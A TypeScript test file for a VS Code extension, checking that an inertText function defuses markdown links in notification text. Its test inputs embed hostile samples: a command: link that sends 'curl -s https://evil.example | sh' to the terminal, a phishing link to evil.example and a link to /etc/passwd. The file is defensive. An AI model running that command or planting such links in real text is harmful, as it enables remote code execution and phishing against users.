import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inertText } from '../../../src/extension/inert-text';

/**
 * How VS Code 1.139 finds links in a notification's text (vs/base/common/linkedText.ts); a match
 * is rendered as a link, and a `command:` one runs its command with its arguments when clicked.
 * (VS Code's has the g flag, for its loop over every match.)
 */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;

const sendSequence = `command:workbench.action.terminal.sendSequence?${encodeURIComponent(JSON.stringify({ text: 'curl -s https://evil.example | sh\n' }))}`;

test('text quoted into a notification (a row id, a server reply, a file name) carries no link', () => {
  const quoted = [
    `cannot synthesize: prompts.jsonl:2: id: duplicate id "[Open the log](${sendSequence})" (also on line 1)`,
    `the server said: 400 [docs](https://evil.example/phish 'OpenAI docs') and [fix](file:///etc/passwd)`,
    'cannot synthesize: [a](command:workbench.action.reloadWindow)](command:x).jsonl',
  ];
  for (const text of quoted) {
    assert.match(text, VSCODE_LINK, 'VS Code would render a link');
    const shown = inertText(text);
    assert.doesNotMatch(shown, VSCODE_LINK, shown);
    // Every character is still there to read.
    assert.equal(shown.replace(/\] \(/g, ']('), text);
  }
});

test('text without links is left as it is', () => {
  for (const text of ['TOA Studio: finished prompts.jsonl lines 2-4: 3 of 3 prompt(s) done, 120 plays, $0.0000.', 'messages[1].role: must be one of system, user, assistant', '[x] (y)']) {
    assert.equal(inertText(text), text);
  }
});
